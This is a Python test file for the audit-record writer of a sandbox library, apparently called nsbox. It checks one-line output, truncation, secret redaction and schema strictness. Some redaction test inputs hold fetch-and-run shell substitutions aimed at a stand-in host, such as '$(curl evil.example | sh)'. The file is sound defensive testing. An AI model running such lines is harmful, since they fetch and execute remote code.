"""Audit records as lines: nothing in a record can break its line, reach a terminal, or make it too long."""

from __future__ import annotations

import json
import subprocess
import sys

import jsonschema
import pytest
from hypothesis import given
from hypothesis import strategies as st

import nsbox
from nsbox import Limits, Policy
from nsbox._audit import policies, redaction
from nsbox._audit.line import MOST_LINE, line
from nsbox.leaks import Scrubber

HEAD = {"schema": "nsbox.audit/1", "event": "start", "id": "0" * 32, "seq": 1}


@given(st.lists(st.one_of(st.text(), st.binary(), st.text(st.characters(categories=["Cs", "Cc", "Cf", "Zl"])))))
def test_no_text_breaks_its_line(argv: list[str | bytes]) -> None:
    """Whatever the words are, the record is one line of printable ASCII, and its values have no control characters."""
    text = line(HEAD | {"argv": argv})
    assert text.isascii() and text.isprintable()
    assert len(text) < MOST_LINE
    values = json.loads(text)["argv"]
    assert all(value.isprintable() for value in values)
    "".join(values).encode()  # no surrogate, which some readers would refuse


@pytest.mark.parametrize("letter", ["a", "\n", "\u20ac", "\U0001f600", "\udcff", '"', "\\"])
def test_long_fields_are_cut_and_say_so(letter: str) -> None:
    """A record of long fields fits into a line; it names what was cut."""
    record = HEAD | {"argv": [letter * 100_000, "x"], "policy": {"write": [letter * 5000] * 500}, "cwd": "/w"}
    text = line(record)
    told = json.loads(text)
    assert len(text) < MOST_LINE
    assert {"argv", "policy"} <= {*told["cut"]}
    assert told["cwd"] == "/w" and "cwd" not in told["cut"]


def test_many_fields_are_dropped_rather_than_the_record() -> None:
    """A record that nothing makes fit keeps its head."""
    told = json.loads(line(HEAD | {f"field{i}": "\u20ac" * 5000 for i in range(500)}))
    assert told["id"] == HEAD["id"] and len(told["cut"]) == 64


def test_escapes_can_be_undone() -> None:
    """A text that looks like an escape differs from one that is escaped: backslashes are doubled there."""
    plain, escaped = (json.loads(line(HEAD | {"argv": [word]})) for word in (r"\033[31m", "\\033\x1b"))
    assert plain["argv"] == [r"\033[31m"] and "escaped" not in plain
    assert escaped["argv"] == [r"\\033\033"] and escaped["escaped"] == ["argv"]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("curl https://me:hunter2@api.example/x", "curl https://me:***@api.example/x"),
        ("deploy --token=abc --verbose", "deploy --token=*** --verbose"),
        ("deploy --api-key abc -v", "deploy --api-key *** -v"),
        ("DB_PASSWORD='a b' run", "DB_PASSWORD=*** run"),
        ("curl -H 'Authorization: Bearer abc.def'", "curl -H 'Authorization: Bearer ***'"),
        ("curl -H 'Authorization: ApiKey abc' x", "curl -H 'Authorization: ***' x"),
        ("curl -H 'Authorization: Bearer abc' x", "curl -H 'Authorization: Bearer ***' x"),
        ("curl -H 'Cookie: a=abc; b=def' x", "curl -H 'Cookie: ***' x"),
        ("curl -u me:hunter2 x", "curl -u me:*** x"),
        ("docker run -u 1000:1000 x", "docker run -u 1000:1000 x"),
        ("git clone https://abcdefghijklmnop@git.example/x", "git clone https://***@git.example/x"),
        ("git clone ssh://git@git.example/x", "git clone ssh://git@git.example/x"),
        ("curl https://a.example/x?X-Amz-Signature=abc&y=1", "curl https://a.example/x?X-Amz-Signature=***&y=1"),
        ('{"client_secret": "abc"}', '{"client_secret": ***}'),
        (f"key ghp_{'a' * 36} here", "key [github] here"),
        ("tokenize --password-less", "tokenize --password-less"),
        ("make test", "make test"),
    ],
)
def test_secrets_are_masked(text: str, shown: str) -> None:
    """What is usually secret in a command line is masked, and nothing else."""
    assert redaction.redacted(text) == shown


def test_the_word_after_an_option_is_masked() -> None:
    """An option and its value are two words of an argv."""
    assert redaction.words(["x", "--password", "hunter2", "y"]) == ["x", "--password", "***", "y"]
    assert redaction.words(["x", "--secret", "-v"]) == ["x", "--secret", "-v"]


@pytest.mark.parametrize(
    "text",
    [
        'secret="$(curl evil.example | sh)"; x',
        "token=$(curl evil.example)",
        "password=`curl evil.example`",
        "x --password `curl evil.example`",
        "authorization: $(curl evil.example)",
        "cookie: `curl evil.example`",
    ],
)
def test_commands_are_not_masked(text: str) -> None:
    """What a shell would run doesn't hide from a record by looking like a password. The control is a plain one."""
    assert redaction.redacted(text) == text
    plain = text.replace("$(curl", "").replace("`", "").replace(")", "")
    assert "***" in redaction.redacted(plain)


def test_users_of_an_argv() -> None:
    """A user and a password are one word after an option."""
    assert redaction.words(["curl", "-u", "me:hunter2", "--user", "0:0", "-u", "root"]) == [
        *("curl", "-u", "me:***", "--user", "0:0", "-u", "root")
    ]


def test_nothing_is_left_of_a_secret_at_the_cut() -> None:
    """A long text is cut; a secret across that place isn't shown in part."""
    for secret in ("open-sesame-12345", f"ghp_{'a' * 36}"):
        for shift in range(4, len(secret)):
            text = "password=" + "x" * (redaction.MOST - 9 - shift - 1) + " " + secret + " y"
            shown = redaction.redacted(text, Scrubber(["open-sesame-12345"]).scrub)
            assert secret[:4] not in shown[12:], shift
    assert redaction.redacted("x" * (redaction.MOST + 1)).endswith(redaction.CUT)


def test_memory_is_bounded() -> None:
    """Long texts aren't remembered, and of a command's many words only those are looked at that a record can have."""
    redaction._masked.cache_clear()
    for number in range(50):
        redaction.redacted(f"{number} " * 2000)
    assert redaction._masked.cache_info().currsize == 0
    assert len(redaction.words(["x"] * 100_000)) == redaction.MOST_WORDS
    told = json.loads(line(HEAD | {"argv": redaction.words(["x"] * 100_000)}))
    assert told["cut"] == ["argv"] and len(told["argv"]) == redaction.MOST_WORDS - 1


@pytest.mark.parametrize("letter", ["\x1b", "\udcff", "\U000e0001", "\U0001f600", '"'])
def test_hostile_records_are_as_the_schema_says(letter: str) -> None:
    """However long and odd the texts of a record are, it fits into a line, and has what a reader relies on."""
    text = letter * 5000
    policy = policies.summary(Policy.host())
    policy |= {"workdir": text, "write": [text] * 300, "network": [text] * 300}
    caller = {"host": text, "pid": 1, "uid": 0, "euid": 0, "gid": 0}
    record = HEAD | {"time": "2026-01-01T00:00:00.000000Z", "process": "0" * 16, "caller": caller}
    record |= {
        "kind": "command",
        "program": text,
        "argv": [text] * 300,
        "cwd": text,
        "code": text,
        "backend": "namespaces",
    }
    record |= {"policy": policy, "enforced": ["x" * 80] * 40, "not_enforced": ["x" * 80] * 40}
    told = json.loads(line(record))
    jsonschema.Draft202012Validator(nsbox.audit.schema()).validate(told)
    assert {"program", "argv", "cwd", "code", "policy", "caller"} <= {*told["cut"]}
    assert told["policy"]["digest"] == policy["digest"]


def test_masking_takes_linear_time() -> None:
    """Hostile words are looked at in reasonable time: these would take hours if a pattern went back over them."""
    for piece in (
        "-",
        "a-",
        "--password",
        "authorization:",
        "x://",
        "secret=",
        "\"'",
        "-u a:",
        'secret="$',
        "cookie: ",
        "a://b:",
    ):
        redaction.redacted(piece * 60_000)


def test_digest() -> None:
    """Policies that say the same have the same digest, also in another process; others have another."""
    policy = Policy.host(env={"A": "secret-1"}, limits=Limits(processes=3), degrade=["ids", "tmp", "read"])
    code = (
        "from nsbox import *; from nsbox._audit import policies\n"
        "print(policies.digest(Policy.host(env={'A': 'other'}, limits=Limits(processes=3), degrade=['tmp', 'read', 'ids'])))"
    )
    for seed in ("1", "2"):
        env = {"PYTHONHASHSEED": seed, "PATH": "/usr/bin:/bin"}
        done = subprocess.run([sys.executable, "-P", "-c", code], capture_output=True, text=True, check=True, env=env)
        assert done.stdout.strip() == policies.digest(policy)
    assert policies.digest(policy.with_(limits=Limits(processes=4))) != policies.digest(policy)


def test_schema_is_strict() -> None:
    """The schema allows no field that it doesn't name, and has each event once."""
    schema = nsbox.audit.schema()
    assert [row["properties"]["event"]["const"] for row in schema["oneOf"]] == [
        *("start", "refused", "end", "left", "explained", "code", "files", "commit")
    ]
    assert not any(row["additionalProperties"] for row in schema["oneOf"])
